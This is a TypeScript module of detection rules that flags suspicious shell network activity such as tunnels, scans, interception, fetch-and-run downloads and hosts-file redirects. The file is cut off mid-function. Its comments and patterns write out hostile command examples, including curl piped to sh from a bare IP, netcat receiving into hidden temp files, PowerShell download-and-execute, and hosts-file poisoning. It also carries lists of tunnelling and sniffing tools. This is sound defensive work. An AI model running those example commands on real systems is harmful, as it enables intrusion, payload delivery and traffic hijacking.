/**
 * Suspicious network use: tunnels and proxies (T1572, T1090), scans (T1046), sniffing and interception (T1040,
 * T1557), ingress tool transfer (T1105: payloads fetched from untrusted places into drop locations, or run), brute
 * force, disguised downloaders.
 */
import { excerpt, FILE_DROP_HOST, isDisguisedDrop, isIpLiteral, isLoopback, isPublicIp, isPublicNetwork, isTempPath, remoteCopyHost, SHELL_NAMES, TEMP_PATHS, urlsIn, INTERPRETERS, URL_PATTERN } from '../patterns.js';
import { baseName } from '../shell-parse.js';
import { invocationsOf, type Subject } from '../subject.js';
import type { Evidence } from '../types.js';
import type { Rule } from './rule.js';
import { writesTo } from './rule.js';
import { networkRelays } from './reverse-shell.js';

const DOWNLOADERS = ['curl', 'wget', 'fetch', 'aria2c', 'lwp-download', 'lwp-request', 'busybox'];
/** Programs built to tunnel or proxy traffic out of a network. */
const TUNNEL_TOOLS = ['chisel', 'revsocks', 'sshuttle', 'ngrok', 'frpc', 'frps', 'ligolo', 'ligolo-ng', 'gost', 'iodine', 'iodined', 'dnscat', 'dnscat2', 'ptunnel', 'ptunnel-ng', 'bore', 'rathole', 'devtunnel', 'pingtunnel', 'icmpsh', 'icmpdoor', 'localtonet', 'dns2tcp', 'udp2raw', 'npc', 'nps', 'reGeorg', 'neo-regeorg', 'rpivot'];
/** Packet capture tools; reading a saved capture (`-r`) or listing interfaces is not capturing. */
const SNIFFERS = ['tcpdump', 'tshark', 'dumpcap', 'ngrep', 'tcpflow', 'termshark', 'netsniff-ng', 'dsniff', 'urlsnarf'];
const SCANNERS = ['nmap', 'masscan', 'zmap', 'rustscan', 'naabu', 'zgrab', 'zgrab2', 'unicornscan', 'arp-scan', 'netdiscover', 'fping', 'pnscan', 'nbtscan', 'sx'];
const INTERCEPTORS = ['arpspoof', 'ettercap', 'bettercap', 'responder', 'responder.py', 'dsniff', 'mitm6'];

/** `nc -c 'ncat localhost 9090'`: a listener that relays to another command (the shell case is a reverse shell). */
const netcatCommandRelay: Rule = {
  name: 'netcat-command-relay',
  category: 'suspicious_network',
  severity: 'medium',
  techniques: ['T1090'],
  match: (s): Evidence | undefined => {
    for (const inv of invocationsOf(s, 'nc', 'ncat', 'netcat', 'nc.traditional')) {
      const i = inv.args.findIndex((a) => /^-[a-zA-Z]*[ec]$/.test(a) || a === '--exec' || a === '--sh-exec');
      if (i >= 0 && inv.args[i + 1] !== undefined) return { tool: inv.program, runs: inv.args[i + 1].slice(0, 120) };
    }
    return undefined;
  },
};

/**
 * `nc -lvnp 4444`: netcat listening on every interface (Falco's "Unexpected inbound connection source"), the catcher
 * of shells and files. Low: a quick transfer between two hosts looks the same; `nc -l 127.0.0.1 9999` is local.
 */
const netcatListener: Rule = {
  name: 'netcat-listener',
  category: 'suspicious_network',
  severity: 'low',
  techniques: ['T1571', 'T1095'],
  match: (s): Evidence | undefined => {
    const inv = invocationsOf(s, 'nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd').find((i) => i.args.some((a) => /^-[a-zA-Z]*l[a-zA-Z]*$|^--listen$/.test(a))
      && !i.args.some((a) => /^(?:127\.\d+\.\d+\.\d+|localhost|::1)$/.test(a)));
    return inv ? { tool: inv.program, arguments: inv.args.join(' ').slice(0, 120) } : undefined;
  },
};

/** `ssh -R`, `chisel server --reverse`, `code tunnel`, `sshuttle -r`, `revsocks -connect`: traffic carried out of the network. */
const reverseTunnel: Rule = {
  name: 'reverse-tunnel',
  category: 'suspicious_network',
  severity: 'high',
  techniques: ['T1572', 'T1090'],
  match: (s): Evidence | undefined => {
    // Any SSH client: OpenSSH, autossh, PuTTY's plink, Dropbear's dbclient. A remote forward, a tunnel device, or a local
    // or SOCKS forward opened to other hosts (`-L 0.0.0.0:8888:10.1.1.25:3389`, `-g`); `-L 3000:localhost:3000` is a developer's.
    for (const inv of invocationsOf(s, 'ssh', 'autossh', 'plink', 'dbclient')) {
      const forward = inv.args.findIndex((a, i) => a === '-R' || /^-R\d/.test(a) || a === '-w' || /^-o\s*Tunnel=/.test(a) || a === '-g'
        || (/^-[LD]$/.test(inv.args[i - 1] ?? '') && /^(?:0\.0\.0\.0|\*|\[::\]):/.test(a)) || /^-[LD](?:0\.0\.0\.0|\*):/.test(a));
      if (forward >= 0) return { tool: inv.program, forward: inv.args.slice(forward - (/^-[LD]$/.test(inv.args[forward - 1] ?? '') ? 1 : 0), forward + 2).join(' ') };
    }
    // A SOCKS or local forward through a bare internet address (`ssh -N -f -D 9000 root@203.0.113.80`): a pivot
    // through a host nobody named; bastions have names.
    for (const inv of invocationsOf(s, 'ssh', 'autossh', 'plink', 'dbclient')) {
      const forward = inv.args.findIndex((a) => /^-(?!o)[a-zA-Z]*[LD]/.test(a));
      const host = bareAddressOperand(inv.args);
      if (forward >= 0 && host !== undefined) return { tool: inv.program, forward: inv.args.slice(forward, forward + 2).join(' '), through: host };
    }
    // Traffic sent through a proxy at a bare internet address (`https_proxy=http://203.0.113.9:8080 wget ...`).
    const proxy = excerpt(s.text, /\b(?:https?|all|ftp)_proxy=["']?(?:\w+:\/\/)?(?:[^@\s/'"]+@)?\d{1,3}(?:\.\d{1,3}){3}\b/i);
    if (proxy !== undefined && isPublicIp(/\d{1,3}(?:\.\d{1,3}){3}$/.exec(proxy)?.[0] ?? '')) return { proxy };
    // The same given to the downloader (`curl -x socks5h://45.134.26.71:1080 http://...`).
    const viaProxy = invocationsOf(s, 'curl', 'wget').flatMap((inv) => inv.args.filter((a, i) => /^(?:-x|--proxy|--socks[45]h?|--preproxy)$/.test(inv.args[i - 1] ?? '') || /^--(?:proxy|socks[45]h?)=/.test(a)))
      .find((a) => isPublicIp(/(?:^|[/@=])(\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?\/?$/.exec(a)?.[1] ?? ''));
    if (viaProxy !== undefined) return { proxy: viaProxy };
    // A SOCKS relay chained through another host (`gost -F=socks5://h:1080`, `graftcp-local -socks5 127.0.0.1:1080`,
    // chisel's `R:socks`): a pivot for other tools' traffic.
    const socks = /socks/i.test(s.text) && s.invocations.find((inv) => !/^(?:curl|wget|ssh|git|pip\d?|npm|apt(?:-get)?|docker)$/.test(inv.program) && inv.args.some((a, i) => /(?:^|[=\s])socks[45]h?:\/\/\S|^R:(?:[\d.]+:)?socks$/i.test(a) || (/^--?socks[45]?h?$/i.test(inv.args[i - 1] ?? '') && /:\d+$/.test(a))));
    if (socks) return { tool: socks.program, arguments: socks.args.join(' ').slice(0, 160) };
    // A client talking to a web shell on another host (`reGeorgSocksProxy.py -u http://h/tunnel.jsp`, `pivotnacci https://h/agent.php`).
    const webShell = /\.(?:jspx?|php\d?|aspx?|ashx|cfm)\b/i.test(s.text) && s.invocations.find((inv) => !/^(?:curl|wget|http|https|xh|lynx|links|w3m|firefox|chromium|google-chrome|ab|siege|hey|k6)$/.test(inv.program) && inv.args.some((a) => urlsIn(a).some((u) => !isLoopback(u.host) && /\/[\w.-]+\.(?:jsp|jspx|php\d?|aspx?|ashx|cfm)(?:[?#]|$)/i.test(u.url))));
    if (webShell) return { tool: webShell.program, arguments: webShell.args.join(' ').slice(0, 160) };
    const tool = invocationsOf(s, ...TUNNEL_TOOLS).find((inv) => inv.args.some((a) => !/^(?:-h|--help|-V|--version|version|help)$/.test(a)));
    if (tool) return { tool: tool.program, arguments: tool.args.join(' ').slice(0, 160) };
    const subcommand = s.invocations.find((inv) => inv.args[0] === 'tunnel' && inv.program !== 'ssh');
    return subcommand ? { tool: subcommand.program, arguments: subcommand.args.join(' ').slice(0, 160) } : undefined;
  },
};

/** An SSH client's destination written as a bare public address (`root@203.0.113.80`, `91.92.8.14`). */
function bareAddressOperand(args: readonly string[]): string | undefined {
  return args.map((a) => /^(?:[\w.-]+@)?(\d{1,3}(?:\.\d{1,3}){3})$/.exec(a)?.[1]).find((h) => h !== undefined && isPublicIp(h));
}

/** Port probing from a shell (`echo > /dev/tcp/$host/$port` in a loop) or a scanner given targets. */
const networkScan: Rule = {
  name: 'network-scan',
  category: 'suspicious_network',
  severity: 'medium',
  techniques: ['T1046', 'T1018'],
  match: (s): Evidence | undefined => {
    // Also a loop over an address range written with braces (`for h in 10.43.0.{1..30}; do ping -c1 $h`).
    const probe = excerpt(s.text, /\/dev\/(?:tcp|udp)\/[^\s/]+\/\$\{?\w+|\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\$\{?\w+|\bfor\s+\w+\s+in\s+\d{1,3}\.\d{1,3}\.\d{1,3}\.\{\d+\.\.\d+\}/);
    if (probe !== undefined) return { probe };
    // `nc -z` over a port range, several ports, or a range of hosts (`10.42.0.0-254`, a CIDR block): a sweep, not a check.
    const sweep = invocationsOf(s, 'nc', 'ncat', 'netcat').find((inv) => inv.args.some((a) => /^-[a-zA-Z]*z/.test(a))
      && (inv.args.some((a) => /^\d+-\d+$|^\d{1,3}(?:\.\d{1,3}){3}(?:-\d+|\/\d+)$/.test(a)) || inv.args.filter((a, i) => /^\d{1,5}$/.test(a) && !/^-[a-zA-Z]*[wiqGgpsIO]$/.test(inv.args[i - 1] ?? '')).length >= 3));
    if (sweep) return { scanner: sweep.program, targets: sweep.args.join(' ').slice(0, 120) };
    // `for p in 22 80 443; do nc -z -w1 h $p; done`: the same sweep, one port a turn. (One port on each of a few named
    // hosts, `nc -z $h 5432`, is a health check.)
    const looped = /\b(?:for|while)\b/.test(s.text) && invocationsOf(s, 'nc', 'ncat', 'netcat').find((inv) => inv.args.some((a) => /^-[a-zA-Z]*z/.test(a))
      && /^\$\{?\w+\}?$/.test(inv.args[inv.args.length - 1] ?? '') && !/^-/.test(inv.args[inv.args.length - 2] ?? '-'));
    if (looped) return { scanner: looped.program, targets: looped.args.join(' ').slice(0, 120) };
    // hping and nping craft packets at a target: probing it (`hping3 -S -p 443 -c 3 h`), not talking to it.
    const flood = invocationsOf(s, 'hping3', 'hping', 'hping2', 'nping').find((inv) => inv.args.some((a) => /^--(?:flood|scan)$|^-8$/.test(a)) || inv.args.some((a, i) => !a.startsWith('-') && !/^-[a-zA-Z]$|^--[\w-]+$/.test(inv.args[i - 1] ?? '') && /^[\w.-]+\.[\w-]+$|^\d{1,3}(?:\.\d{1,3}){3}$/.test(a)));
    if (flood) return { scanner: flood.program, arguments: flood.args.join(' ').slice(0, 120) };
    // A target, a list of targets (`-iL hosts.txt`, `-iR 100`), or a scan technique chosen (`-sS`, `-sV`).
    const scanner = invocationsOf(s, ...SCANNERS).find((inv) => inv.args.some((a) => /^[\d.]+(?:\/\d+)?$|^[\w-]+\.[\w.-]+$|^(?:-l|--localnet|-r|-g|-iL|-iR|--input-file)$|^-s[STUAWMNFXYZOVC]+$/.test(a)));
    return scanner ? { scanner: scanner.program, targets: scanner.args.join(' ').slice(0, 160) } : undefined;
  },
};

/** Shells without a socket tool: zsh's ztcp module. */
const shellRawSocket: Rule = {
  name: 'shell-raw-socket',
  category: 'suspicious_network',
  severity: 'high',
  techniques: ['T1095'],
  match: (s): Evidence | undefined => {
    const socket = excerpt(s.text, /\bztcp\s+\S+\s+\d+/);
    return socket === undefined ? undefined : { socket };
  },
};

const trafficInterception: Rule = {
  name: 'traffic-interception',
  category: 'suspicious_network',
  severity: 'high',
  techniques: ['T1557', 'T1040'],
  match: (s): Evidence | undefined => {
    const proxy = invocationsOf(s, 'mitmproxy', 'mitmdump', 'mitmweb').find((inv) => /--mode[=\s]+(?:transparent|wireguard|local)/.test(inv.args.join(' ')));
    if (proxy) return { tool: proxy.program, mode: 'transparent' };
    const spoofer = invocationsOf(s, ...INTERCEPTORS).find((inv) => inv.args.length > 0);
    if (spoofer) return { tool: spoofer.program, arguments: spoofer.args.join(' ').slice(0, 160) };
    const dump = invocationsOf(s, 'socat').find((inv) => inv.args.some((a) => /^-[a-z]*[vx]$/.test(a)) && inv.args.some((a) => /^tcp[46]?-listen:/i.test(a)));
    return dump ? { tool: 'socat', arguments: dump.args.join(' ').slice(0, 160) } : undefined;
  },
};

/**
 * A remote payload written where droppers write: a URL or socket source, and a temporary file that is hidden, in
 * shared memory or named like a system process (any temporary file when the source is a bare IP address).
 * Installers download `/tmp/helm.tar.gz` from named hosts every day; that is not reported.
 */
const downloadIntoTemp: Rule = {
  name: 'download-into-temp',
  category: 'suspicious_network',
  severity: 'high',
  techniques: ['T1105'],
  match: (s): Evidence | undefined => {
    // `nc -l -p 9001 > /tmp/.x`: a socket tool's output written straight into a drop location.
    const received = networkRelays(s).flatMap((inv) => inv.command.redirects).find((r) => /^1?>>?$/.test(r.op) && isDisguisedDrop(r.target));
    if (received) return { source: 'socket', writes: received.target };
    const source = remoteSource(s);
    if (source === undefined) return undefined;
    // Local paths only: not a URL's, nor a remote copy operand's (`scp f admin@10.0.0.5:/tmp/` writes on the other host).
    // (socat's `open:/x`, `create:/x` and `file:/x` addresses are local files.)
    const temps = [...s.text.replace(URL_PATTERN, ' ').replace(/(?:^|\s)(?!(?:open|create|creat|file|gopen):)(?:[\w.-]+@)?[\w.-]+:\/\S*/gi, ' ').matchAll(TEMP_PATHS)].map((m) => m[0]);
    const target = temps.find(isDisguisedDrop) ?? (source.fromIp ? temps.find(isTempPath) : undefined);
    if (target !== undefined) return { source: source.text, writes: target };
    // From a bare address straight among the system's programs (`open(my $f, ">", "/usr/local/bin/agent")` after a raw GET),
    // or from anywhere into a hidden file under a system tree (`lwp-download http://h/x.tgz /opt/.x.tgz`).
    const planted = (source.fromIp ? writesTo(s, /^\/(?:usr\/)?(?:local\/)?s?bin\//) : undefined) ?? writesTo(s, /^\/(?:opt|usr|var|etc|srv|lib|root)\/(?:[^/]+\/)*\.[^/.][^/]*$/);
    return planted === undefined ? undefined : { source: source.text, ...planted };
  },
};

/**
 * `curl http://203.0.113.5/x.sh | sh`: code fetched from a bare IP or over plain HTTP and run unseen; or fetched and run
 * inside an interpreter (`exec(urlopen(...).read())`), from anywhere.
 */
const untrustedPipeToShell: Rule = {
  name: 'untrusted-download-piped-to-shell',
  category: 'suspicious_network',
  severity: 'high',
  techniques: ['T1105', 'T1059.004'],
  match: (s): Evidence | undefined => {
    // In-process too: `exec(urllib.request.urlopen("http://h/s.py").read())`, `eval(require('child_process')...)` of a fetch.
    const inCode = excerpt(s.text, /\b(?:exec|eval)\s*\(\s*(?:urllib\.request\.|urllib2\.)?urlopen\s*\([^)]*\)|\b(?:exec|eval)\s*\(\s*requests\.get\s*\(|\bIEX\s*\(?\s*\(?New-Object\s+Net\.WebClient\)?\.DownloadString/i);
    if (inCode !== undefined) return { url: inCode.slice(0, 160) };
    const runsPipe = s.invocations.some((inv) => inv.command.pipedFrom && (SHELL_NAMES.has(inv.program) || INTERPRETERS.test(inv.program)));
    const fetch = invocationsOf(s, ...DOWNLOADERS).find((inv) => inv.command.pipesTo);
    if (!runsPipe || !fetch) return undefined;
    const url = urlsIn(fetch.args.join(' ')).find((u) => isIpLiteral(u.host) || FILE_DROP_HOST.test(u.host) || (u.plainHttp && !isLoopback(u.host)));
    if (url) return { url: url.url.slice(0, 160) };
    // A script from a URL held in a variable (`curl -s "$STAGE_URL" | sh`): nobody reading the line can vet where it comes from.
    const hidden = fetch.args.find((a) => /^["']?\$\{?\w+\}?["']?$/.test(a));
    return hidden !== undefined ? { url: hidden } : undefined;
  },
};

/** `openssl s_client -connect h:p >file` or `<file`: TLS as a raw file transport, not a certificate check. */
const opensslTransport: Rule = {
  name: 'openssl-raw-transport',
  category: 'suspicious_network',
  severity: 'high',
  techniques: ['T1573', 'T1105'],
  match: (s): Evidence | undefined => {
    const client = networkRelays(s).find((inv) => inv.program === 'openssl' && inv.command.redirects.some((r) => /^[0-9]*[<>]{1,2}$/.test(r.op) && r.target !== '/dev/null'));
    return client ? { connect: client.args.join(' ').slice(0, 160) } : undefined;
  },
};

/** `whois -h host -p port data`: whois as a covert data channel (port 43 is whois itself). */
const whoisChannel: Rule = {
  name: 'whois-data-channel',
  category: 'suspicious_network',
  severity: 'medium',
  techniques: ['T1105', 'T1048'],
  match: (s): Evidence | undefined => {
    for (const inv of invocationsOf(s, 'whois')) {
      const port = inv.args[inv.args.indexOf('-p') + 1];
      if (inv.args.includes('-h') && inv.args.includes('-p') && port !== '43') return { server: inv.args[inv.args.indexOf('-h') + 1] ?? '', port };
    }
    return undefined;
  },
};

const sshpassInline: Rule = {
  name: 'sshpass-inline-password',
  category: 'suspicious_network',
  severity: 'medium',
  techniques: ['T1110', 'T1021.004'],
  // sshpass -p, and PuTTY's plink -pw: an SSH password written on the command line, the way scripted guessing goes.
  match: (s) => (invocationsOf(s, 'sshpass').some((inv) => inv.args[0] === '-p' || /^-p./.test(inv.args[0] ?? '')) ? { tool: 'sshpass', option: '-p' }
    : invocationsOf(s, 'plink', 'pscp', 'psftp').some((inv) => inv.args.includes('-pw')) ? { tool: 'plink', option: '-pw' } : undefined),
};

/** Tor started as a service or used as a wrapper: traffic hidden from network monitoring. */
const anonymityNetwork: Rule = {
  name: 'anonymity-network',
  category: 'suspicious_network',
  severity: 'medium',
  techniques: ['T1090.003'],
  match: (s): Evidence | undefined => {
    const service = invocationsOf(s, 'systemctl', 'service').find((inv) => inv.args.some((a) => /^tor(?:@\w*)?(?:\.service)?$/.test(a)) && inv.args.some((a) => /^(?:start|enable|restart)$/.test(a)));
    if (service) return { service: 'tor' };
    // The wrappers are launchers: the program they run is the invocation's, the wrapper one of its words.
    for (const inv of s.invocations) {
      const wrapper = inv.command.argv.map((w) => baseName(w)).find((w) => /^(?:torsocks|torify|proxychains4?)$/.test(w));
      if (wrapper !== undefined && inv.program !== wrapper) return { wrapper, runs: [inv.program, ...inv.args].join(' ').slice(0, 120) };
    }
    return undefined;
  },
};

/**
 * `finger x@h`, `rlogin -l data h`, `rsh h cmd`, `rcp`, `tftp h`: the cleartext r-services, finger and TFTP, gone from modern hosts,
 * used as a channel for data (GTFOBins' finger and rlogin transfers).
 */
const legacyRemoteClient: Rule = {
  name: 'legacy-cleartext-client',
  category: 'suspicious_network',
  severity: 'medium',
  techniques: ['T1071', 'T1105', 'T1048'],
  match: (s): Evidence | undefined => {
    const inv = invocationsOf(s, 'finger', 'rlogin', 'rsh', 'rexec', 'rcp', 'tftp').find((i) => i.args.some((a, k) => {
      if (i.program === 'tftp' && /^-[a-zA-Z]*[lrmcR]$/.test(i.args[k - 1] ?? '')) return false;
      const host = i.program === 'finger' ? /@([\w.-]+)$/.exec(a)?.[1] : !a.startsWith('-') && /^[\w.-]+$/.test(a) && /[a-z.]/i.test(a) ? a : remoteCopyHost(a);
      return host !== undefined && !isLoopback(host);
    }));
    return inv ? { tool: inv.program, arguments: inv.args.join(' ').slice(0, 120) } : undefined;
  },
};

/**
 * A file or package fetched from a bare internet address (`yum install http://203.0.113.5/x.rpm`, `scp root@203.0.113.5:/x .`,
 * `tar xf u@203.0.113.5:/kit.tar --rsh-command=ssh`, Perl or Python code connecting to one): no mirror, registry or
 * vendor is published that way (T1105).
 */
const FETCHERS = ['curl', 'wget', 'aria2c', 'ab', 'lwp-download', 'lwp-request', 'fetch', 'scp', 'rsync', 'sftp', 'sshfs', 'tar', 'yum', 'dnf', 'rpm', 'zypper', 'pip', 'pip3', 'apt', 'apt-get', 'dpkg', 'git', 'svn', 'jrunscript', 'axel', 'tftp', 'ftp', 'lftp'];
/** Clients that take the server as a bare address operand (`tftp -g -r x 203.0.113.5`). */
const BARE_ADDRESS_CLIENTS = /^(?:tftp|ftp|lftp|sftp)$/;
const fetchedFromPublicAddress: Rule = {
  name: 'fetched-from-public-address',
  category: 'suspicious_network',
  severity: 'medium',
  techniques: ['T1105'],
  match: (s): Evidence | undefined => {
    for (const inv of invocationsOf(s, ...FETCHERS)) {
      const operands = inv.args.filter((a) => !a.startsWith('-'));
      const url = urlsIn(inv.args.join(' ')).find((u) => isPublicIp(u.host));
      // A remote copy source: `user@ip:path` anywhere but last (the last operand is where it goes), or tar's archive.
      const source = operands.slice(0, /^(?:tar|sshfs)$/.test(inv.program) || BARE_ADDRESS_CLIENTS.test(inv.program) ? undefined : -1).find((a) => isPublicIp(remoteCopyHost(a) ?? '') || (BARE_ADDRESS_CLIENTS.test(inv.program) && isPublicIp(a)));
      if (url || source !== undefined) return { tool: inv.program, source: (url?.url ?? source ?? '').slice(0, 160) };
    }
    const code = excerpt(s.text, /(?:PeerAddr\s*=>\s*|fsockopen\s*\(\s*|TCPSocket\.(?:new|open)\s*\(\s*|create_connection\s*\(\s*\(\s*|connect\s*\(\s*\(?\s*)["']\d{1,3}(?:\.\d{1,3}){3}["']/);
    // Code that connects to one and writes what it reads into a drop location.
    const written = excerpt(s.text, TEMP_PATHS);
    return code !== undefined && written !== undefined && isPublicIp(/\d{1,3}(?:\.\d{1,3}){3}/.exec(code)?.[0] ?? '') ? { code, writes: written } : undefined;
  },
};

/** Tunnelling programs that are also everyday tools for exposing a home service: fetched, they are low. */
const TUNNEL_DOWNLOAD = new RegExp(`/(?:${[...TUNNEL_TOOLS, 'cloudflared', 'zrok', 'pinggy'].join('|')})(?:[-_.][\\w.-]*)?$`, 'i');
/** `wget https://bin.equinox.io/.../ngrok-stable-linux-amd64.zip`, `git clone .../ligolo`: a tunnelling program brought onto the node (T1105, T1572). */
const tunnelToolFetched: Rule = {
  name: 'tunnel-tool-fetched',
  category: 'suspicious_network',
  severity: 'low',
  techniques: ['T1105', 'T1572'],
  match: (s): Evidence | undefined => {
    const url = invocationsOf(s, 'curl', 'wget', 'aria2c', 'axel', 'git').filter((inv) => inv.program !== 'git' || inv.args.includes('clone'))
      .flatMap((inv) => urlsIn(inv.args.join(' '))).find((u) => TUNNEL_DOWNLOAD.test(u.url.replace(/^\w+:\/\/[^/]+/, '').replace(/[?#].*$/, '').replace(/\.git$/, '')));
    return url ? { url: url.url.slice(0, 160) } : undefined;
  },
};

/** Package manager source lists and the commands that add a repository. */
const PACKAGE_SOURCE = /^\/etc\/(?:apt\/sources\.list(?:\.d\/|$)|yum\.repos\.d\/|zypp\/repos\.d\/|apk\/repositories$)/;
/**
 * A package repository at a bare internet address (`echo 'deb http://203.0.113.9/repo stable main' >
 * /etc/apt/sources.list.d/x.list`, `add-apt-repository`, `dnf config-manager --add-repo`): every later install or
 * upgrade trusts whoever answers there (T1195.002, T1105). Vendors publish repositories under their names.
 */
const packageSourceAtAddress: Rule = {
  name: 'package-source-at-bare-address',
  category: 'suspicious_network',
  severity: 'medium',
  techniques: ['T1195.002', 'T1105'],
  match: (s): Evidence | undefined => {
    const adds = writesTo(s, PACKAGE_SOURCE) !== undefined || s.invocations.some((inv) => /^(?:add-apt-repository|apt-add-repository)$/.test(inv.program) || (inv.program === 'zypper' && /^(?:ar|addrepo)$/.test(inv.args[0] ?? '')) || inv.args.includes('--add-repo'));
    const url = adds ? urlsIn(s.text).find((u) => isPublicIp(u.host)) : undefined;
    return url ? { repository: url.url.slice(0, 160) } : undefined;
  },
};

/**
 * `echo '80.94.92.41 registry.k8s.io' >> /etc/hosts`: a name pinned to an internet address the resolver would not give,
 * sending this node's pulls or API calls to whoever holds it (T1565.002, T1557); or one internet address's connections
 * diverted to a hidden port by NAT. Local names point at private addresses.
 */
const hostsFileRedirect: Rule = {
  name: 'hosts-file-redirect',
  category: 'suspicious_network',
  severity: 'medium',
  techniques: ['T1557', 'T1565.002'],
  match: (s): Evidence | undefined => {
    // Also one internet address's traffic diverted to another port (`iptables -t nat -I PREROUTING -s <ip> --dport 22 -j REDIRECT`).
    const diverted = invocationsOf(s, 'iptables', 'iptables-legacy', 'iptables-nft').find((inv) => inv.args.some((a) => /^(?:REDIRECT|DNAT)$/.test(a)) && inv.args.some((a, i) => /^(?:-s|--source)$/.test(inv.args[i - 1] ?? '') && isPublicNetwork(a)));
    if (diverted) return { diverted: `${diverted.program} ${diverted.args.join(' ')}`.slice(0, 160) };
    if (writesTo(s, /^\/etc\/hosts$/) === undefined) return undefined;
    const entry = excerpt(s.text, /\b\d{1,3}(?:\.\d{1,3}){3}\s+[a-z0-9-]+(?:\.[a-z0-9-]+)+/i);
    const address = entry?.split(/\s+/)[0];
    return entry !== undefined && address !== undefined && isPublicIp(address) ? { entry } : undefined;
  },
};

/**
 * `tar xf u@c2.example:/x.tar --rsh-command=/bin/ssh`: an archive read from another host through a remote shell
 * (GTFOBins' tar download), in place of an HTTP download.
 */
const remoteArchiveRead: Rule = {
  name: 'archive-read-from-remote-host',
  category: 'suspicious_network',
  severity: 'medium',
  techniques: ['T1105'],
  match: (s): Evidence | undefined => {
    const inv = invocationsOf(s, 'tar').find((i) => i.args.some((a) => /^--rsh-command\b|^--rmt-command\b/.test(a)) && i.args.some((a) => remoteCopyHost(a) !== undefined));
    return inv ? { tool: 'tar', archive: inv.args.find((a) => remoteCopyHost(a) !== undefined) ?? '' } : undefined;
  },
};

/**
 * `python client.py --server-ip 198.51.100.165 --server-port 9443`: a program pointed at a server, callback or relay by
 * a bare internet address (pivoting and C2 clients take them so). Low: cloud hosts are sometimes given by address.
 */
const clientOfBareAddress: Rule = {
  name: 'client-of-bare-address',
  category: 'suspicious_network',
  severity: 'low',
  techniques: ['T1071', 'T1090'],
  match: (s): Evidence | undefined => {
    for (const inv of s.invocations) {
      const option = inv.args.findIndex((a, i) => /^--?(?:server|c2|callback|lhost|rhost|remote|connect|relay|proxy|master|controller)[-_]?(?:ip|host|addr(?:ess)?)?$/i.test(inv.args[i - 1] ?? '') && isPublicIp(a.replace(/:\d+$/, '')));
      if (option >= 0) return { program: inv.program, [inv.args[option - 1].replace(/^-+/, '')]: inv.args[option] };
    }
    return undefined;
  },
};

/**
 * An SSH session to a bare internet address on another port than 22, or with the host key unchecked (Falco's
 * "Disallowed SSH Connection Non Standard Port"): admins reach their hosts by name and keep host keys. Low: a cloud VM
 * reached by address is ordinary too.
 */
const sshToBareAddress: Rule = {
  name: 'ssh-to-bare-address',
  category: 'suspicious_network',
  severity: 'low',
  techniques: ['T1021.004', 'T1571'],
  match: (s): Evidence | undefined => {
    for (const inv of invocationsOf(s, 'ssh', 'dbclient', 'plink')) {
      const host = bareAddressOperand(inv.args);
      const port = inv.args.find((a, i) => /^-[pP]$/.test(inv.args[i - 1] ?? '') && a !== '22') ?? /^-p(\d+)$/.exec(inv.args.find((a) => /^-p\d+$/.test(a)) ?? '')?.[1];
      const unchecked = inv.args.some((a) => /StrictHostKeyChecking=no/i.test(a));
      if (host !== undefined && (port !== undefined || unchecked)) return { tool: inv.program, host, ...(port !== undefined ? { port } : { hostKey: 'unchecked' }) };
    }
    return undefined;
  },
};

/**
 * A remote-management agent enrolled on the command line with an activation code (`amazon-ssm-agent -register -code
 * ... -id ...`, Sigma's "Potential Linux Amazon SSM Agent Hijacking"): the node handed to whoever owns that activation.
 */
const remoteAgentRegistered: Rule = {
  name: 'remote-agent-registered',
  category: 'suspicious_network',
  severity: 'medium',
  techniques: ['T1219'],
  match: (s): Evidence | undefined => {
    const inv = invocationsOf(s, 'amazon-ssm-agent').find((i) => i.args.includes('-register') && i.args.some((a) => /^-(?:code|id)$/.test(a)));
    return inv ? { agent: inv.program, arguments: inv.args.join(' ').slice(0, 120) } : undefined;
  },
};

/** `nc -u 203.0.113.9 9999`, `socat - tcp:203.0.113.9:80`: a raw socket opened to a bare internet address (T1095). */
const rawSocketToPublicAddress: Rule = {
  name: 'raw-socket-to-public-address',
  category: 'suspicious_network',
  severity: 'medium',
  techniques: ['T1095', 'T1571'],
  match: (s): Evidence | undefined => {
    for (const inv of networkRelays(s)) {
      const peer = inv.args.map((a) => /(?:^|[:=])(\d{1,3}(?:\.\d{1,3}){3})(?=$|:)/.exec(a)?.[1]).find((h) => h !== undefined && isPublicIp(h));
      if (peer !== undefined) return { tool: inv.program, peer };
    }
    return undefined;
  },
};

/** Where a command line reads remote bytes from: a URL, a socat TCP address, an s_client connection. */
function remoteSource(s: Subject): { text: string; fromIp: boolean } | undefined {
  const url = urlsIn(s.text).find((u) => !isLoopback(u.host));
  if (url) return { text: url.url.slice(0, 160), fromIp: isIpLiteral(url.host) || FILE_DROP_HOST.test(url.host) };
  // `scp user@203.0.113.5:/x /tmp/.x`, `tar xf user@h:/x.tar --rsh-command=...`, `smbclient '\\\\h\\share' -c 'get ...'`.
  const client = /\b(?:tftp|ftp|nc|ncat|netcat|telnet)\s+(?:-\S+\s+)*(\d{1,3}(?:\.\d{1,3}){3})\b/.exec(s.text);
  if (client) return { text: client[0], fromIp: true };
  // A transfer session to a named host (`sftp u@h; get /x /var/tmp/.y`).
  const session = /\b(?:s?ftp|lftp|ncftp)\s+(?:-\S+\s+)*(?:[\w.-]+@)?[\w-]+\.[\w.-]+[^;|&]*[;|&]+\s*(?:get|mget)\s/.exec(s.text);
  if (session) return { text: session[0].slice(0, 120), fromIp: false };
  const copy = excerpt(s.text, /(?:^|\s)[\w.-]+@([\w.-]+):\S*|\\\\[\w.-]+\\\S*|\b(?:s?ftp|tftp|smb|scp|sftp|rsync):\/\/\S+/);
  if (copy !== undefined) return { text: copy.trim(), fromIp: /\d+\.\d+\.\d+\.\d+/.test(copy) };
  const socket = excerpt(s.text, /(?:\btcp[46]?(?:-connect|-listen)?:|-connect\s+|\/dev\/tcp\/)(?:[\w.-]+[:/])?\d+/i);
  if (socket !== undefined) return { text: socket, fromIp: /\d+\.\d+\.\d+\.\d+/.test(socket) };
  // A socket opened in inline code: Perl's IO::Socket::INET, Ruby's TCPSocket, PHP's fsockopen, `s.connect(("h", 80))`,
  // Lua's `socket.bind("*", 6380)`. A listener, or a peer known only by its address, counts as a bare source.
  const code = /IO::Socket::INET\b[^;]*?PeerAddr\s*=>\s*["']([^"':]*)|\bTCPSocket\.(?:new|open)\s*\(\s*["']([^"']*)|\bfsockopen\s*\(\s*["']([^"']*)|\.(?:connect|bind)\s*\(\s*\(?\s*["']([^"']*)["']\s*,\s*\d+/.exec(s.text);
